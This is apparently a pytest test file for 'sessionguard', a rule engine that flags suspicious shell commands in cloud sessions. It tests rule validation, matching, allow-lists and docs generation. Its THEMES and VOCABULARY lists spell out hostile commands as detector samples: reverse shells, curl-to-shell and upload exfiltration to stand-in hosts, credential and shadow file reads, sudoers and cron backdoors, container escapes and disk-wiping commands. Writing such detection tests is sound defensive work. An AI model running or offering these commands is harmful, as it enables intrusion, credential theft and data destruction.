"""The rule engine: loading and validation, matching semantics, the allow-list, user rule files, the default
pack's coverage and restraint, and the generated docs table."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import re2
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from sessionguard.rules import AllowEntry, Rule, RuleError, RulePack, parse_document, render_markdown_table
from sessionguard.rules.markdown import TABLE_END, TABLE_START
from sessionguard.session.powershell import normalize_powershell
from sessionguard.session.shell import normalize_command
from sessionguard.severity import Severity

REPO = Path(__file__).resolve().parents[2]
DEFAULT = RulePack.load()

JANE = "arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jane.roe"
SCANNER = "arn:aws:sts::111122223333:assumed-role/SecOps/scanner"
INSTANCE = "i-0a1b2c3d4e5f60718"


def rule_data(**overrides: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "id": "ACME-DB-001",
        "title": "Production database dumped",
        "severity": "medium",
        "techniques": ["T1005"],
        "description": "mysqldump of the production schema.",
        "match": {"segment": [r"^mysqldump\s(.*\s)?production\b"]},
        "examples": {
            "match": ["mysqldump production > /tmp/p.sql", "sudo mysqldump -u root production"],
            "no_match": ["mysqldump staging"],
        },
    }
    data.update(overrides)
    return data


def write(path: Path, document: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
    return path


def load_error(tmp_path: Path, document: dict[str, Any] | str) -> str:
    path = tmp_path / "acme.yaml"
    if isinstance(document, str):
        path.write_text(document, encoding="utf-8")
    else:
        write(path, document)
    with pytest.raises(RuleError) as caught:
        RulePack.load([path], include_default=False)
    return str(caught.value)


# -- severity --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["high", "HIGH", " High "])
def test_severity_parses_case_insensitively(text: str) -> None:
    assert Severity.parse(text) is Severity.HIGH


def test_unknown_severity_error_lists_the_scale() -> None:
    with pytest.raises(ValueError, match="info, low, medium, high, critical"):
        Severity.parse("severe")


def test_severity_prints_lower_case_and_orders() -> None:
    assert str(Severity.CRITICAL) == "critical"
    assert Severity.INFO < Severity.LOW < Severity.MEDIUM < Severity.HIGH < Severity.CRITICAL


# -- loading and validation ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ({"rules": [rule_data()], "alow": []}, r"acme\.yaml: unknown key\(s\) alow"),
        ({"rules": [rule_data(exception=["x"])]}, r"rule 'ACME-DB-001': unknown key\(s\) exception"),
        ({"rules": [{k: v for k, v in rule_data().items() if k != "title"}]}, "'ACME-DB-001': missing title"),
        ({"rules": [rule_data(severity="severe")]}, "'ACME-DB-001': severity: unknown severity 'severe'"),
        ({"rules": [rule_data(techniques=["T10"])]}, "'T10' is not a MITRE ATT&CK id"),
        ({"rules": [rule_data(techniques=[])]}, "techniques: needs at least 1"),
        ({"rules": [rule_data(id="acme_db")]}, r"rule 'acme_db': id must look like SG-HIST-001"),
        ({"rules": [rule_data(id=7)]}, r"rules\[0\]: id must look like SG-HIST-001"),
        ({"rules": [rule_data(match={"segment": ["(a)\\1"]})]}, "'ACME-DB-001': match.segment: RE2 rejects"),
        ({"rules": [rule_data(match={"whole": ["curl(?=.*sh)"]})]}, "match.whole: RE2 rejects"),
        ({"rules": [rule_data(exceptions=["[unclosed"])]}, "exceptions: RE2 rejects"),
        ({"rules": [rule_data(match={"segment": [r"\Arm"]})]}, r"use \^ and \$ instead"),
        ({"rules": [rule_data(match={})]}, "match needs at least one pattern"),
        ({"rules": [rule_data(match={"any": ["x"]})]}, r"match: unknown key\(s\) any"),
        ({"rules": [rule_data(match={"segment": "^x"})]}, "match.segment: must be a list of non-empty strings"),
        (
            {"rules": [rule_data(examples={"match": ["mysqldump production"], "no_match": ["x"]})]},
            "examples.match: needs at least 2, has 1",
        ),
        (
            {"rules": [rule_data(examples={"match": ["mysqldump production", "mysqldump production -x"]})]},
            "examples.no_match: needs at least 1, has 0",
        ),
        ({"rules": [rule_data(), rule_data()]}, "'ACME-DB-001': duplicate id"),
        ({"rules": "nope"}, "`rules` must be a list"),
        ({"allow": [{"rule": "ACME-*"}]}, r"allow\[0\]: missing reason"),
        ({"rules": [rule_data()], "allow": [{"rule": "ACME-*", "reason": "r", "expires": "soon"}]}, "YYYY-MM-DD"),
        ({"rules": [rule_data()], "allow": [{"rule": "ACME-*", "reason": "r", "team": "x"}]}, r"allow\[0\]: unknown"),
        ({"rules": [rule_data()], "allow": [{"rule": "SG-NOPE-*", "reason": "r"}]}, "'SG-NOPE-\\*': matches no rule"),
        ({"rules": [rule_data()], "allow": [{"rule": "*", "reason": "r", "command": "(?<=x)y"}]}, "RE2 rejects"),
    ],
)
def test_invalid_rule_files_fail_with_the_file_the_entry_and_the_problem(
    tmp_path: Path, document: dict[str, Any], expected: str
) -> None:
    message = load_error(tmp_path, document)
    assert "acme.yaml" in message
    assert re.search(expected, message), message


def test_duplicate_yaml_keys_are_rejected_instead_of_silently_dropped(tmp_path: Path) -> None:
    text = yaml.safe_dump({"rules": [rule_data()]}, sort_keys=False).replace(
        "  severity: medium\n", "  severity: medium\n  severity: info\n"
    )
    assert "duplicate key 'severity'" in load_error(tmp_path, text)


def test_a_file_that_is_not_yaml_is_reported_as_such(tmp_path: Path) -> None:
    assert "not valid YAML" in load_error(tmp_path, "rules: [\n")


def test_a_missing_rule_path_is_reported(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="no such rule file or directory"):
        RulePack.load([tmp_path / "missing.yaml"])


def test_default_rule_ids_cannot_be_redefined_by_user_files(tmp_path: Path) -> None:
    path = write(tmp_path / "mine.yaml", {"rules": [rule_data(id="SG-HIST-001")]})
    with pytest.raises(RuleError, match=r"mine\.yaml: rule 'SG-HIST-001': duplicate id \(also defined in .*history"):
        RulePack.load([path])


def test_hand_built_rules_are_compiled_with_re2_too() -> None:
    rule = Rule("ACME-X-1", "t", Severity.LOW, ("T1005",), "d", segment=("(x)\\1",), source="code")
    with pytest.raises(RuleError, match="RE2 rejects"):
        RulePack([rule])


# -- user rule files -------------------------------------------------------------------------------------------


def test_user_rule_directory_adds_rules_and_allow_entries_to_the_default_pack(tmp_path: Path) -> None:
    write(tmp_path / "10-rules.yaml", {"rules": [rule_data()]})
    write(tmp_path / "20-allow.yml", {"allow": [{"rule": "SG-TOOL-001", "user": SCANNER, "reason": "scanner"}]})
    (tmp_path / "notes.txt").write_text("not a rule file")

    pack = RulePack.load([tmp_path])

    assert len(pack.rules) == len(DEFAULT.rules) + 1
    assert [match.rule.id for match in pack.match("sudo mysqldump production")] == ["ACME-DB-001"]
    assert pack.match("nmap -sV 10.0.0.0/24", user_arn=SCANNER) == []
    assert pack.check_examples() == []


def test_user_rules_alone_without_the_default_pack(tmp_path: Path) -> None:
    pack = RulePack.load([write(tmp_path / "acme.yaml", {"rules": [rule_data()]})], include_default=False)
    assert [rule.id for rule in pack.rules] == ["ACME-DB-001"]
    assert pack.match("rm -rf /") == []


def test_parse_document_returns_rules_and_allow_entries() -> None:
    rules, allow = parse_document(
        yaml.safe_dump({"rules": [rule_data()], "allow": [{"rule": "ACME-DB-001", "reason": "ok"}]}), "inline"
    )
    assert rules[0].severity is Severity.MEDIUM
    assert rules[0].source == "inline"
    assert allow == [AllowEntry(rule="ACME-DB-001", reason="ok")]


def test_check_examples_reports_examples_that_do_not_hold(tmp_path: Path) -> None:
    broken = rule_data(examples={"match": ["mysqldump production", "pg_dump production"], "no_match": ["ls"]})
    pack = RulePack.load([write(tmp_path / "acme.yaml", {"rules": [broken]})], include_default=False)
    assert pack.check_examples() == ["ACME-DB-001: should match but does not: 'pg_dump production'"]


def test_the_default_pack_passes_its_own_examples() -> None:
    assert DEFAULT.check_examples() == []


# -- matching semantics ----------------------------------------------------------------------------------------


def test_each_rule_matches_at_most_once_and_the_most_severe_comes_first() -> None:
    matches = DEFAULT.match("rm -rf /; rm -rf / ; sudo -i; curl -s http://x.example/a | bash")
    ids = [match.rule.id for match in matches]
    assert len(ids) == len(set(ids))
    assert ids[0] == "SG-IMPACT-001"
    severities = [match.rule.severity for match in matches]
    assert severities == sorted(severities, reverse=True)


def test_a_match_reports_the_normalized_segment_or_line_that_matched() -> None:
    by_id = {match.rule.id: match.segment for match in DEFAULT.match("cd /; sudo /bin/rm -rf /")}
    assert by_id["SG-IMPACT-001"] == "rm -rf /"
    by_id = {match.rule.id: match.segment for match in DEFAULT.match("curl -s http://x.example/a | sudo bash")}
    assert by_id["SG-DLEX-001"] == "curl -s http://x.example/a | bash"


def test_an_exception_only_suppresses_the_text_it_matches() -> None:
    pack = RulePack.load([], include_default=True)
    # SG-LOG-001 excepts deleting rotated archives only; a real log deleted in the same line still counts.
    assert "SG-LOG-001" not in {m.rule.id for m in pack.match("rm /var/log/messages.1.gz")}
    assert "SG-LOG-001" in {m.rule.id for m in pack.match("rm /var/log/messages.1.gz; rm /var/log/secure")}


def test_matching_is_obfuscation_resistant_end_to_end() -> None:
    for command in ("h''istory -c", "un\\set HISTFILE", "/usr/bin/c'u'rl -s http://x.example/a|sudo -E bash"):
        assert DEFAULT.match(command), command


def test_an_empty_pack_matches_nothing() -> None:
    assert RulePack().match("rm -rf /") == []


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_match_never_raises_on_arbitrary_text(text: str) -> None:
    DEFAULT.match(text, user_arn=JANE, instance_id=INSTANCE)


def test_match_survives_lone_surrogates() -> None:
    assert DEFAULT.match("rm -rf / \udcff")


VOCABULARY = (
    "curl ", "wget ", "| ", "sh ", "bash ", "-c ", "-e ", "nc ", "/dev/tcp/1.2.3.4/80 ", "base64 ", "-d ",
    "python3 ", "socket ", "connect(", "rm ", "-rf ", "/ ", "; ", "&& ", "$(", ") ", "`", "'", '"', "> ",
    ">> ", "/etc/sudoers ", "NOPASSWD ", "chmod ", "+s ", "169.254.169.254/latest/meta-data/iam/security-credentials ",
    "find ", "-exec ", "mkfifo ", "sudo ", "history ", "HISTFILE=", "/var/log/secure ", "\n", "eval ", "x ",
)  # fmt: skip


def reference_scan(pack: RulePack, command: str, platform: str = "linux") -> set[str]:
    """Each rule of the platform, pattern by pattern with re2.search: what the RE2 sets and the prefilter must agree
    with."""
    normalized = normalize_powershell(command) if platform == "windows" else normalize_command(command)
    fired = set()
    for rule in pack.rules:
        if rule.platform != platform or rule.after:  # session rules need an earlier command, which is not here
            continue
        for patterns, texts in (
            (rule.segment, normalized.segments),
            (rule.whole, (normalized.whole, *normalized.inner)),
        ):
            for text in texts:
                if any(re2.search(p, text) for p in patterns) and not any(re2.search(p, text) for p in rule.exceptions):
                    fired.add(rule.id)
    return fired


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(VOCABULARY), max_size=30).map("".join))
def test_the_rule_sets_agree_with_matching_each_pattern_alone(command: str) -> None:
    assert {match.rule.id for match in DEFAULT.match(command)} == reference_scan(DEFAULT, command)


def test_the_rule_sets_agree_with_matching_each_pattern_alone_on_every_example() -> None:
    for rule in DEFAULT.rules:
        for example in rule.examples_match + rule.examples_no_match:
            matched = {m.rule.id for m in DEFAULT.match(example, platform=rule.platform)}
            assert matched == reference_scan(DEFAULT, example, rule.platform), example


def test_long_commands_skip_the_joined_prefilter_and_still_match() -> None:
    command = "echo " + "a " * 5000 + "; rm -rf /"
    assert "SG-IMPACT-001" in {match.rule.id for match in DEFAULT.match(command)}


# -- allow-list ------------------------------------------------------------------------------------------------


def pack_with(tmp_path: Path, *entries: dict[str, Any]) -> RulePack:
    return RulePack.load([write(tmp_path / "allow.yaml", {"allow": list(entries)})])


def ids(pack: RulePack, command: str, **context: Any) -> set[str]:
    return {match.rule.id for match in pack.match(command, **context)}


def test_allow_by_rule_id_suppresses_only_that_rule(tmp_path: Path) -> None:
    pack = pack_with(tmp_path, {"rule": "SG-TOOL-001", "reason": "approved scanning"})
    assert ids(pack, "nmap -sV 10.0.0.5") == set()
    assert ids(pack, "nmap -sV 10.0.0.5; nc -e /bin/sh 10.0.0.1 4444") == {"SG-RSH-003"}


def test_allow_by_rule_glob(tmp_path: Path) -> None:
    pack = pack_with(tmp_path, {"rule": "SG-TOOL-*", "reason": "pentest week"})
    assert ids(pack, "nmap -sV 10.0.0.5") == set()
    assert ids(pack, "hydra -l root -P p.txt ssh://10.0.0.5") == set()


def test_allow_by_user_arn_glob(tmp_path: Path) -> None:
    pack = pack_with(
        tmp_path, {"rule": "SG-TOOL-001", "user": "arn:aws:sts::111122223333:assumed-role/SecOps/*", "reason": "r"}
    )
    assert ids(pack, "nmap 10.0.0.5", user_arn=SCANNER) == set()
    assert ids(pack, "nmap 10.0.0.5", user_arn=JANE) == {"SG-TOOL-001"}
    assert ids(pack, "nmap 10.0.0.5") == {"SG-TOOL-001"}  # unknown user: a specific glob does not apply


def test_allow_by_instance_id_glob(tmp_path: Path) -> None:
    pack = pack_with(tmp_path, {"rule": "SG-IMPACT-004", "instance_id": "i-0a1b2c3d*", "reason": "rebuilt root"})
    assert ids(pack, "mkfs.xfs /dev/nvme0n1p1", instance_id=INSTANCE) == set()
    assert ids(pack, "mkfs.xfs /dev/nvme0n1p1", instance_id="i-0fffffffffffffff0") == {"SG-IMPACT-004"}


def test_allow_by_command_regex_must_cover_the_whole_normalized_line(tmp_path: Path) -> None:
    installer = r"curl -fsSL https://get\.docker\.com \| sh"
    pack = pack_with(tmp_path, {"rule": "SG-DLEX-001", "command": installer, "reason": "vendor installer"})
    assert ids(pack, "curl -fsSL https://get.docker.com | sudo sh") == set()
    assert ids(pack, "curl -fsSL https://get.docker.com | sh; curl -s http://x.example/a | sh") == {"SG-DLEX-001"}
    assert ids(pack, "curl -fsSL https://evil.example | sh") == {"SG-DLEX-001"}


@pytest.mark.parametrize(
    ("expires", "now", "allowed"),
    [
        (date(2026, 12, 31), datetime(2026, 12, 30, 12, tzinfo=UTC), True),
        (date(2026, 12, 31), datetime(2026, 12, 31, 23, 59, tzinfo=UTC), True),
        (date(2026, 12, 31), datetime(2027, 1, 1, 0, 0, tzinfo=UTC), False),
        (date(2026, 12, 31), datetime(2027, 1, 1, 0, 30), False),  # naive datetimes are UTC
        (None, datetime(2099, 1, 1, tzinfo=UTC), True),
    ],
)
def test_expired_allow_entries_are_ignored(tmp_path: Path, expires: date | None, now: datetime, allowed: bool) -> None:
    entry: dict[str, Any] = {"rule": "SG-TOOL-001", "reason": "r"}
    if expires is not None:
        entry["expires"] = expires
    pack = pack_with(tmp_path, entry)
    assert (ids(pack, "nmap 10.0.0.5", now=now) == set()) is allowed


def test_allow_entry_expiry_without_now_uses_the_current_date(tmp_path: Path) -> None:
    pack = pack_with(tmp_path, {"rule": "SG-TOOL-001", "expires": "2000-01-01", "reason": "long gone"})
    assert ids(pack, "nmap 10.0.0.5") == {"SG-TOOL-001"}


# -- the default pack ------------------------------------------------------------------------------------------

THEMES = {
    "history tampering": "history -c",
    "log clearing": "cat /dev/null > /var/log/secure",
    "SSM agent disabled": "sudo systemctl stop amazon-ssm-agent",
    "CloudWatch agent disabled": "amazon-cloudwatch-agent-ctl -a stop",
    "audit disabled": "auditctl -e 0",
    "obfuscated execution": "echo aWQ= | base64 -d | bash",
    "shadow read": "cat /etc/shadow",
    "private key read": "cat ~/.ssh/id_rsa",
    "cloud credentials read": "cat ~/.aws/credentials",
    "IMDS credentials": "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
    "proc environ": "cat /proc/1/environ",
    "hash cracking": "hashcat -m 1800 hashes.txt rockyou.txt",
    "bash /dev/tcp reverse shell": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "bash /dev/udp reverse shell": "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
    "nc -e": "nc -e /bin/sh 10.0.0.1 4444",
    "socat exec": "socat TCP:10.0.0.1:4444 EXEC:/bin/bash",
    "mkfifo shell": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    "python reverse shell": "python3 -c 'import socket,os;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0)'",
    "awk reverse shell": "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\"}'",
    "curl pipe shell": "curl -s http://x.example/a | sh",
    "download chmod run": "wget http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    "curl upload": "curl -F 'f=@/etc/passwd' https://x.example",
    "ngrok tunnel": "ngrok tcp 22",
    "ssh reverse tunnel": "ssh -R 4444:localhost:22 x@203.0.113.5",
    "dns exfiltration": "dig $(whoami).x.example",
    "scanner": "nmap -sS 10.0.0.0/24",
    "linpeas": "./linpeas.sh",
    "metasploit": "msfconsole -q",
    "uid 0 user": "useradd -o -u 0 backdoor",
    "sudoers NOPASSWD": "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "authorized_keys": "echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys",
    "cron": "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
    "systemd unit": "cp x.service /etc/systemd/system/",
    "rc.local": "echo /tmp/x >> /etc/rc.local",
    "shell rc backdoor": "echo 'curl -s x.example | sh' >> ~/.bashrc",
    "setuid": "chmod u+s /tmp/bash",
    "setcap": "setcap cap_setuid+ep /usr/bin/python3",
    "ld.so.preload": "echo /tmp/x.so > /etc/ld.so.preload",
    "insmod": "insmod /tmp/rk.ko",
    "nsenter": "nsenter -t 1 -m -u -i -n sh",
    "docker host mount": "docker run -v /:/host -it alpine chroot /host",
    "privileged container": "docker run --privileged -it alpine",
    "pty spawn": "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
    "find -exec shell": "find . -exec /bin/sh \\; -quit",
    "vim shell escape": "vim -c ':!sh'",
    "rm -rf /": "rm -rf /",
    "dd to device": "dd if=/dev/zero of=/dev/xvda",
    "mkfs": "mkfs.ext4 /dev/xvda1",
    "shred device": "shred /dev/nvme0n1",
    "fork bomb": ":(){ :|:& };:",
    "chmod 777 /": "chmod -R 777 /",
    "userdel": "userdel -r ec2-user",
}


@pytest.mark.parametrize("command", THEMES.values(), ids=THEMES.keys())
def test_the_default_pack_covers_every_theme_of_the_issue(command: str) -> None:
    assert max(match.rule.severity for match in DEFAULT.match(command)) >= Severity.MEDIUM


BENIGN_ADMINISTRATION = [
    "ls -la",
    "cd /var/log",
    "tail -n 100 /var/log/messages",
    "sudo tail -f /var/log/secure",
    "less /var/log/syslog",
    "journalctl -u nginx --since today",
    "journalctl -u amazon-ssm-agent --no-pager | tail -n 3",
    "grep -i error /var/log/messages | tail -n 20",
    "sudo systemctl restart nginx",
    "sudo service httpd restart",
    "systemctl status amazon-ssm-agent",
    "sudo systemctl restart amazon-ssm-agent",
    "sudo systemctl enable --now nginx",
    "sudo yum update -y",
    "sudo dnf install -y htop",
    "sudo apt-get update && sudo apt-get upgrade -y",
    "history | tail",
    "history | grep ssh",
    "chmod +x deploy.sh",
    "./deploy.sh",
    "rm -rf ./build",
    "rm -rf build/ dist/",
    "curl https://example.com/health",
    "curl -sS -o /dev/null -w '%{http_code}' http://localhost:8080/health",
    "curl -s http://169.254.169.254/latest/meta-data/instance-id",
    "wget https://example.com/file.tar.gz",
    "sudo -i",
    "sudo su -",
    "df -h",
    "ps aux | grep java",
    "sudo ss -tlnp",
    "docker ps",
    "docker run --rm -p 8080:80 nginx",
    "kubectl get pods -A",
    "sudo vi /etc/hosts",
    "crontab -l",
    "aws s3 cp s3://bucket/app.tar.gz .",
    "tar czf backup.tar.gz /etc/nginx",
    "sudo chown -R app:app /opt/app",
    "chmod -R 755 ./public",
    "export PATH=$PATH:/opt/bin",
    "echo 'export PATH=$PATH:/opt/app/bin' >> ~/.bashrc",
    "cat ~/.ssh/id_ed25519.pub",
    "ssh -i ~/.ssh/id_rsa ec2-user@10.0.1.5",
    "scp app.tar.gz ec2-user@10.0.1.15:/tmp/",
    "ssh -L 5432:db.internal:5432 bastion",
    "nc -zv db.internal 5432",
    "python3 -c 'import sys; print(sys.version)'",
    "echo aGVsbG8= | base64 -d",
    "sudo useradd -m deploy",
    "sudo usermod -aG docker ec2-user",
    "sudo tcpdump -i eth0 port 80 -c 100",
    "journalctl --vacuum-time=7d",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "rm -f /var/log/nginx/access.log.2.gz",
    "openssl s_client -connect example.com:443 </dev/null",
    "sudo reboot",
    "ls -l /etc/shadow",
    "sudo kill -HUP $(cat /var/run/nginx.pid)",
    "watch -n 5 df -h",
    "sudo /tmp/aws/install",
    "sed -i 's/worker_processes 1/worker_processes auto/' /etc/nginx/nginx.conf",
    'for f in *.log; do gzip "$f"; done',
    "cdk deploy --all",
    "mysql -u app -p appdb",
]


@pytest.mark.parametrize("command", BENIGN_ADMINISTRATION)
def test_ordinary_administration_stays_below_medium(command: str) -> None:
    assert [m.rule.id for m in DEFAULT.match(command) if m.rule.severity >= Severity.MEDIUM] == []


def test_every_default_rule_is_documented_consistently() -> None:
    files = {Path(rule.source).name for rule in DEFAULT.rules}
    assert len(files) >= 10
    for rule in DEFAULT.rules:
        assert rule.id.startswith("SG-"), rule.id
        assert Path(rule.source).parent == Path(DEFAULT.rules[0].source).parent


# -- docs ------------------------------------------------------------------------------------------------------


def test_the_markdown_table_has_a_row_per_rule_with_attack_links() -> None:
    table = render_markdown_table(DEFAULT)
    assert table.count("\n") == len(DEFAULT.rules) + 2
    assert "| `SG-HIST-001` | Shell history cleared or entries deleted | linux | high | [T1070.003]" in table
    assert "| `SG-WIN-EVADE-003` | Windows event log cleared or disabled | windows | high |" in table
    assert "https://attack.mitre.org/techniques/T1070/003/" in table


def test_docs_rules_md_is_up_to_date_with_the_default_pack() -> None:
    document = (REPO / "docs" / "rules.md").read_text(encoding="utf-8")
    generated = document[document.index(TABLE_START) + len(TABLE_START) : document.index(TABLE_END)]
    assert generated == "\n" + render_markdown_table(DEFAULT), (
        "docs/rules.md is out of date: run `.venv/bin/python -m sessionguard.rules docs/rules.md`"
    )
